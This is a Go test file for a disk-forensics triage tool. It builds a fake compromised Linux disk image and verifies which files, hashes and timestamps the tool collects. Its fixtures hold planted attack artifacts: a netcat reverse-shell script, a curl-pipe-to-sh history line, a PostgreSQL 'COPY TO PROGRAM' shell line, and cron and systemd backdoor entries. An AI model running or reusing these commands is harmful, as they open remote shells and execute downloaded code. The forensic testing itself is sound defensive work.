package main

import (
	"bufio"
	"bytes"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ebsimager/ebsimager/internal/emulator"
	"github.com/ebsimager/ebsimager/internal/report"
	"github.com/ebsimager/ebsimager/internal/testenv"
	"github.com/ebsimager/ebsimager/internal/triage"
)

const snapLinux = "snap-0e0000000000000f1"

// linuxDisk is a GPT disk with one ext4 partition made by mkfs.ext4 -d
// from a tree of the files a Linux triage looks for, among others.
type linuxDisk struct {
	path string
	tree string // the files put in, by path under it
	// collected are the paths the linux profile collects, private are
	// the private keys it withholds.
	collected, private []string
	// times and inodes are what fls -r -m says of each path, once read.
	times  map[string][4]int64
	inodes map[string]string
}

// linuxPartStart is the partition's first sector.
const linuxPartStart = 2048

func buildLinuxDisk(t testing.TB, filler int64) *linuxDisk {
	t.Helper()
	testenv.RequireTool(t, "mkfs.ext4", "sfdisk")
	dir := t.TempDir()
	d := &linuxDisk{path: filepath.Join(dir, "disk.raw"), tree: filepath.Join(dir, "tree")}
	rng := rand.New(rand.NewPCG(13, 13))
	random := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		return string(b)
	}
	text := func(line string, n int) string { return strings.Repeat(line, n) }
	files := map[string]string{
		"/etc/passwd":                              "root:x:0:0:root:/root:/bin/bash\npostgres:x:113:120::/var/lib/postgresql:/bin/bash\nu:x:1000:1000::/home/u:/bin/bash\n",
		"/var/lib/postgresql/.psql_history":        "COPY x TO PROGRAM 'sh -i';\n",
		"/etc/shadow":                              "root:$6$x$y:19000:0:99999:7:::\nu:!:19000::::::\n",
		"/etc/group":                               "root:x:0:\nu:x:1000:\n",
		"/etc/sudoers":                             "root ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n",
		"/etc/sudoers.d/90-cloud-init-users":       "u ALL=(ALL) NOPASSWD:ALL\n",
		"/etc/crontab":                             "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		"/etc/cron.d/backdoor":                     "* * * * * root /tmp/.x/run\n",
		"/etc/cron.daily/logrotate":                "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
		"/etc/ssh/sshd_config":                     "PermitRootLogin yes\n",
		"/etc/ssh/ssh_host_ed25519_key":            "-----BEGIN OPENSSH PRIVATE KEY-----\nhostkey\n-----END OPENSSH PRIVATE KEY-----\n",
		"/etc/systemd/system/evil.service":         "[Service]\nExecStart=/tmp/.x/run\n",
		"/etc/profile":                             "export PATH=/usr/bin\n",
		"/etc/hosts":                               "127.0.0.1 localhost\n",
		"/var/log/auth.log":                        text("Dec  5 10:00:00 host sshd[1]: Accepted publickey for u from 203.0.113.9\n", 6000),
		"/var/log/syslog":                          text("Dec  5 10:00:01 host kernel: hello\n", 3000),
		"/var/log/audit/audit.log":                 text("type=EXECVE msg=audit(1.0:1): argc=1 a0=\"id\"\n", 2000),
		"/var/log/wtmp":                            random(384 * 10),
		"/var/log/journal/0123abcd/system.journal": random(3 << 20),
		"/var/log/amazon/ssm/amazon-ssm-agent.log": text("INFO ssm-agent started\n", 100),
		"/var/spool/cron/crontabs/u":               "@reboot /tmp/.x/run\n",
		"/home/u/.bash_history":                    "id\ncurl http://203.0.113.9/x | sh\n",
		"/home/u/.bashrc":                          "alias ls='ls --color'\n",
		"/home/u/.ssh/authorized_keys":             "ssh-ed25519 AAAAC3Nza u@laptop\n",
		"/home/u/.ssh/id_rsa":                      "-----BEGIN RSA PRIVATE KEY-----\nuserkey\n-----END RSA PRIVATE KEY-----\n",
		"/home/u/.ssh/id_rsa.pub":                  "ssh-rsa AAAAB3 u@host\n",
		"/root/.bash_history":                      "cat /etc/shadow\n",
		"/root/.ssh/authorized_keys":               "ssh-ed25519 AAAAC3Nzb attacker@evil\n",
		"/root/.ssh/known_hosts":                   "github.com ssh-ed25519 AAAA\n",
		"/root/.ssh/id_ed25519":                    "-----BEGIN OPENSSH PRIVATE KEY-----\nrootkey\n-----END OPENSSH PRIVATE KEY-----\n",
		"/tmp/.x/run":                              "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n",
		"/var/tmp/stage":                           "staged",
		"/var/lib/dpkg/status":                     "Package: bash\nStatus: install ok installed\n",
		"/usr/bin/ls":                              random(70000),
	}
	d.private = []string{"/etc/ssh/ssh_host_ed25519_key", "/home/u/.ssh/id_rsa", "/root/.ssh/id_ed25519"}
	notCollected := map[string]bool{"/etc/hosts": true, "/tmp/.x/run": true, "/var/tmp/stage": true, "/usr/bin/ls": true}
	for p, data := range files {
		full := filepath.Join(d.tree, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), 0o640); err != nil {
			t.Fatal(err)
		}
		if !notCollected[p] && !slicesContains(d.private, p) {
			d.collected = append(d.collected, p)
		}
	}
	sort.Strings(d.collected)
	if err := os.Symlink("/usr/share/zoneinfo/UTC", filepath.Join(d.tree, "etc/localtime")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(d.tree, "dev/shm"), 0o755); err != nil {
		t.Fatal(err)
	}
	// Filler: files of random bytes no profile names, 8 MiB each, each in
	// the home of a user of its own beside that user's shell history, so
	// that the histories lie far apart on the disk.
	for i := int64(0); i*(8<<20) < filler; i++ {
		n := min(8<<20, filler-i*(8<<20))
		b := make([]byte, n)
		for k := 0; k+8 <= len(b); k += 8 {
			v := rng.Uint64()
			for j := 0; j < 8; j++ {
				b[k+j] = byte(v >> (8 * j))
			}
		}
		home := filepath.Join(d.tree, fmt.Sprintf("home/user%03d", i))
		os.MkdirAll(home, 0o755)
		if err := os.WriteFile(filepath.Join(home, "data.bin"), b, 0o644); err != nil {
			t.Fatal(err)
		}
		hist := fmt.Sprintf("/home/user%03d/.bash_history", i)
		if err := os.WriteFile(filepath.Join(d.tree, hist), []byte(text(fmt.Sprintf("ssh user%03d@10.0.0.%d\n", i, i), 50)), 0o600); err != nil {
			t.Fatal(err)
		}
		d.collected = append(d.collected, hist)
	}
	sort.Strings(d.collected)
	partBytes := (filler*5/4 + 48<<20) &^ (1<<20 - 1)
	part := filepath.Join(dir, "part.img")
	run(t, "mkfs.ext4", "-q", "-F", "-b", "4096", "-d", d.tree, part, strconv.FormatInt(partBytes>>10, 10)+"k")
	f, err := os.Create(d.path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := f.Truncate(partBytes + 2<<20); err != nil {
		t.Fatal(err)
	}
	pf, err := os.Open(part)
	if err != nil {
		t.Fatal(err)
	}
	defer pf.Close()
	if _, err := f.Seek(linuxPartStart*512, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := bufio.NewReader(pf).WriteTo(f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	cmd := exec.Command("sfdisk", "--no-reread", "--no-tell-kernel", "-q", d.path)
	cmd.Stdin = strings.NewReader(fmt.Sprintf("label: gpt\nstart=%d, size=%d, type=L, name=root\n", linuxPartStart, partBytes/512))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("sfdisk: %v\n%s", err, out)
	}
	os.Remove(part)
	return d
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func run(t testing.TB, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

// bodyTimes reads fls -r -m's bodyfile of the partition: the four
// times by path, and the inode by path.
func bodyTimes(t *testing.T, disk string) (times map[string][4]int64, inodes map[string]string) {
	testenv.RequireTool(t, "fls")
	out := run(t, "fls", "-r", "-m", "/", "-o", strconv.Itoa(linuxPartStart), disk)
	times, inodes = map[string][4]int64{}, map[string]string{}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		f := strings.Split(line, "|")
		if len(f) != 11 {
			continue
		}
		var ts [4]int64
		for k := range ts {
			ts[k], _ = strconv.ParseInt(f[7+k], 10, 64)
		}
		times[f[1]], inodes[f[1]] = ts, f[2]
	}
	return times, inodes
}

// checkTriage checks a triage of d written to out: the files collected
// are the profile's, byte for byte as put in (and as icat reads them,
// with icat), SHA256SUMS checks, files.csv is exact, the private keys are
// absent (unless keys) and the record names the rules that found
// nothing.
func checkTriage(t *testing.T, d *linuxDisk, out string, keys, icat bool) *report.Triage {
	t.Helper()
	testenv.RequireTool(t, "icat", "sha256sum")
	want := append([]string(nil), d.collected...)
	if keys {
		want = append(want, d.private...)
		sort.Strings(want)
	}
	js, err := os.ReadFile(filepath.Join(out, report.JSONName))
	if err != nil {
		t.Fatal(err)
	}
	var rec report.Triage
	if err := json.Unmarshal(js, &rec); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range rec.Collected {
		got = append(got, c.Path)
	}
	sort.Strings(got)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("collected:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	cmd := exec.Command("sha256sum", "-c", "--strict", triage.SumsName)
	cmd.Dir = out
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("sha256sum -c: %v\n%s", err, b)
	}
	if d.times == nil {
		d.times, d.inodes = bodyTimes(t, d.path)
	}
	times, inodes := d.times, d.inodes
	f, err := os.Open(filepath.Join(out, triage.FilesCSV))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("files.csv: %d rows, want %d", len(rows)-1, len(want))
	}
	for _, r := range rows[1:] {
		p := r[1]
		data, err := os.ReadFile(filepath.Join(d.tree, p))
		if err != nil {
			t.Fatal(err)
		}
		written, err := os.ReadFile(filepath.Join(out, r[2]))
		if err != nil || !bytes.Equal(written, data) {
			t.Fatalf("%s: written file differs from the one put in (%v)", p, err)
		}
		local := "files/p1" + strings.NewReplacer("%", "%25", ":", "%3A").Replace(p)
		if r[2] != local {
			t.Fatalf("%s written to %s", p, r[2])
		}
		if icat {
			if got := run(t, "icat", "-o", strconv.Itoa(linuxPartStart), d.path, r[3]); got != string(data) {
				t.Fatalf("%s: icat of inode %s differs", p, r[3])
			}
		}
		m, s1, s2 := md5.Sum(data), sha1.Sum(data), sha256.Sum256(data)
		ts := times[p]
		wantRow := []string{"p1", p, local, inodes[p], inodes[p], strconv.Itoa(len(data)),
			hex.EncodeToString(m[:]), hex.EncodeToString(s1[:]), hex.EncodeToString(s2[:])}
		if strings.Join(r[:9], ",") != strings.Join(wantRow, ",") {
			t.Fatalf("files.csv row\n%q\nwant\n%q", r[:9], wantRow)
		}
		for k := range 4 {
			if ts[k] == 0 && r[9+k] == "" {
				continue
			}
			tm, err := time.Parse(time.RFC3339Nano, r[9+k])
			if err != nil || tm.Unix() != ts[k] {
				t.Fatalf("%s: time %d is %q, fls says %d", p, k, r[9+k], ts[k])
			}
		}
		if r[13] == "" || !strings.HasPrefix(r[14], "linux:") {
			t.Fatalf("%s: blocks %q, rule %q", p, r[13], r[14])
		}
	}
	for _, p := range d.private {
		if _, err := os.Stat(filepath.Join(out, "files/p1", p)); (err == nil) != keys {
			t.Fatalf("%s: present %v with --private-keys %v", p, err == nil, keys)
		}
	}
	notFound := map[string]bool{}
	for _, n := range rec.NotFound {
		notFound[n.Rule] = true
	}
	for _, r := range []string{"/etc/gshadow", "/var/spool/at/**", "/var/lib/rpm/**"} {
		if !notFound[r] {
			t.Fatalf("rule %s not recorded as found nothing: %v", r, rec.NotFound)
		}
	}
	if notFound["/etc/passwd"] {
		t.Fatal("/etc/passwd recorded as not found")
	}
	listing, err := os.ReadFile(filepath.Join(out, triage.ListingCSV))
	if err != nil || !strings.Contains(string(listing), "p1,/tmp/.x/run,file,") || !strings.Contains(string(listing), "p1,/var/tmp/stage,file,") {
		t.Fatalf("listing.csv (%v):\n%s", err, listing)
	}
	if len(rec.Blocks.Blocks) == 0 || rec.Figures.BlocksRead == 0 || rec.Figures.AllocatedBlocks == 0 {
		t.Fatalf("record figures %+v, %d blocks", rec.Figures, len(rec.Blocks.Blocks))
	}
	return &rec
}

// TestTriageLinux triages a Linux-like disk from all four kinds of
// source; each collects the same files.
func TestTriageLinux(t *testing.T) {
	t.Parallel()
	d := buildLinuxDisk(t, 4<<20)
	srv, endpoint := startEmulator(t, emulator.Options{})
	if err := srv.AddRawImage(snapLinux, d.path, emulator.RawOptions{}); err != nil {
		t.Fatal(err)
	}
	c := newCLI(t, endpoint)
	dir := t.TempDir()
	ev := filepath.Join(dir, "ev")
	c.ok("acquire", snapLinux, "--out", ev, "--quiet")
	e01 := filepath.Join(dir, "img")
	c.ok("export", ev, "--format", "e01", "--out", e01, "--quiet")

	// The snapshot, read live: the record's Gets are the emulator's, and
	// every block is named with its AWS checksum.
	srv.ResetCounters()
	out := filepath.Join(dir, "snap")
	r := c.ok("triage", snapLinux, "--out", out)
	rec := checkTriage(t, d, out, false, false)
	gets := srv.Counters().Count("GetSnapshotBlock", emulator.OutcomeOK)
	if rec.Figures.Requests == nil || rec.Figures.Requests.GetCalls != gets || rec.Blocks.ChecksumSource != report.ChecksumAWS {
		t.Fatalf("record requests %+v, emulator served %d Gets", rec.Figures.Requests, gets)
	}
	checkBlockSums(t, d.path, rec)
	if !strings.Contains(r.stdout, fmt.Sprintf("%d Get calls", gets)) || !strings.Contains(r.stdout, "first file after") {
		t.Fatalf("summary:\n%s", r.stdout)
	}
	t.Logf("live triage: %d Gets of %d allocated blocks, %.2f s, first file after %.2f s",
		gets, rec.Figures.AllocatedBlocks, rec.Figures.Seconds, rec.Figures.FirstFileSeconds)

	for _, src := range []struct{ name, path, sums string }{
		{"raw", d.path, report.ChecksumNone}, {"evidence", ev, report.ChecksumManifest}, {"e01", e01 + ".E01", report.ChecksumNone},
	} {
		out := filepath.Join(dir, src.name)
		c.ok("triage", src.path, "--out", out)
		rec := checkTriage(t, d, out, false, src.name == "raw")
		if rec.Blocks.ChecksumSource != src.sums {
			t.Fatalf("%s: checksums from %q", src.name, rec.Blocks.ChecksumSource)
		}
		if src.sums == report.ChecksumManifest {
			checkBlockSums(t, d.path, rec)
		}
	}
	// A block of the evidence that fails verification: the file read
	// from it is named in the record, and the run exits 4.
	var journalBlocks string
	for _, c := range rec.Collected {
		if c.Path == "/var/log/journal/0123abcd/system.journal" {
			journalBlocks = csvColumn(t, filepath.Join(dir, "snap", triage.FilesCSV), c.Path, 13)
		}
	}
	first, _, _ := strings.Cut(journalBlocks, "-")
	idx, err := strconv.ParseInt(first, 10, 64)
	if err != nil {
		t.Fatalf("journal blocks %q", journalBlocks)
	}
	bad := filepath.Join(dir, "bad-ev")
	if err := exec.Command("cp", "-a", ev, bad).Run(); err != nil {
		t.Fatal(err)
	}
	bf := blockFile(t, bad, idx+1) // inside the journal: its data only
	data, _ := os.ReadFile(bf)
	data[100] ^= 1
	os.WriteFile(bf, data, 0o600)
	badOut := filepath.Join(dir, "bad")
	c.fails(exitMismatch, "could not be read", "triage", bad, "--out", badOut)
	badRec := checkRecordError(t, badOut, "/var/log/journal/0123abcd/system.journal")
	if badRec.Figures.Files != len(d.collected)-1 {
		t.Fatalf("with a damaged block: %d files collected, want %d", badRec.Figures.Files, len(d.collected)-1)
	}

	// With --private-keys, the keys are collected too.
	c.ok("triage", d.path, "--out", filepath.Join(dir, "keys"), "--private-keys")
	checkTriage(t, d, filepath.Join(dir, "keys"), true, false)
	// An output directory that is not empty is refused.
	c.fails(exitConflict, "not empty", "triage", d.path, "--out", out)
	// A bad profile is a usage error.
	c.fails(exitUsage, "no such built-in profile", "triage", d.path, "--out", filepath.Join(dir, "x"), "--profile", "solaris")
}

// TestTriageTkape collects with a KAPE target file and a profile file.
func TestTriageTkape(t *testing.T) {
	t.Parallel()
	d := buildLinuxDisk(t, 0)
	dir := t.TempDir()
	tk := filepath.Join(dir, "Logs.tkape")
	if err := os.WriteFile(tk, []byte(`Description: Linux logs, as a KAPE target
Author: test
Version: 1.0
Id: 11111111-2222-3333-4444-555555555555
RecreateDirectories: true
Targets:
    -
        Name: Logs
        Category: Logs
        Path: C:\var\log\
        FileMask: '*.log'
        Recursive: true
    -
        Name: histories
        Path: C:\home\%user%\
        FileMask: .bash_history
`), 0o600); err != nil {
		t.Fatal(err)
	}
	prof := filepath.Join(dir, "mine.txt")
	if err := os.WriteFile(prof, []byte("/etc/hosts\n/nowhere/**\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c := newCLI(t, "")
	out := filepath.Join(dir, "out")
	c.ok("triage", d.path, "--out", out, "--profile", tk, "--profile", prof)
	js, err := os.ReadFile(filepath.Join(out, report.JSONName))
	if err != nil {
		t.Fatal(err)
	}
	var rec report.Triage
	if err := json.Unmarshal(js, &rec); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rec.Collected {
		got = append(got, f.Path)
		data, _ := os.ReadFile(filepath.Join(d.tree, f.Path))
		written, _ := os.ReadFile(filepath.Join(out, f.File))
		if !bytes.Equal(data, written) {
			t.Fatalf("%s differs", f.Path)
		}
	}
	sort.Strings(got)
	want := []string{"/etc/hosts", "/home/u/.bash_history", "/var/log/amazon/ssm/amazon-ssm-agent.log", "/var/log/audit/audit.log", "/var/log/auth.log"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Fatalf("collected %q, want %q", got, want)
	}
	if len(rec.NotFound) != 1 || rec.NotFound[0].Rule != "/nowhere/**" || len(rec.Profiles) != 2 || rec.Profiles[0].Name != "Logs.tkape" {
		t.Fatalf("not found %+v, profiles %+v", rec.NotFound, rec.Profiles)
	}
	// A target file with what this reader does not take is refused.
	bad := filepath.Join(dir, "Bad.tkape")
	os.WriteFile(bad, []byte("Description: x\nTargets:\n    -\n        Path: C:\\x\n        MaxSize: 10\n"), 0o600)
	c.fails(exitUsage, "MaxSize", "triage", d.path, "--out", filepath.Join(dir, "bad"), "--profile", bad)
}

// csvColumn returns column col of the row of path in a files.csv.
func csvColumn(t *testing.T, file, path string, col int) string {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r[1] == path {
			return r[col]
		}
	}
	t.Fatalf("%s: no row of %s", file, path)
	return ""
}

// checkRecordError reads the record in out and checks that it names an
// error of path; the file is not written.
func checkRecordError(t *testing.T, out, path string) *report.Triage {
	t.Helper()
	js, err := os.ReadFile(filepath.Join(out, report.JSONName))
	if err != nil {
		t.Fatal(err)
	}
	var rec report.Triage
	if err := json.Unmarshal(js, &rec); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range rec.Errors {
		found = found || e.Path == path && strings.Contains(e.Error, "sha256")
	}
	if !found {
		t.Fatalf("record errors %+v: none for %s", rec.Errors, path)
	}
	if _, err := os.Stat(filepath.Join(out, "files/p1", path)); err == nil {
		t.Fatalf("%s written from a damaged block", path)
	}
	return &rec
}

// checkBlockSums checks that every block the record names carries the
// SHA-256 of its data on the disk.
func checkBlockSums(t *testing.T, disk string, rec *report.Triage) {
	t.Helper()
	f, err := os.Open(disk)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	data := make([]byte, 512<<10)
	for _, b := range rec.Blocks.Blocks {
		n, _ := f.ReadAt(data, b.Index*512<<10)
		sum := sha256.Sum256(data[:n])
		if b.AWSSHA256 != hex.EncodeToString(sum[:]) {
			t.Fatalf("block %d: recorded checksum %q, not its data's", b.Index, b.AWSSHA256)
		}
	}
}
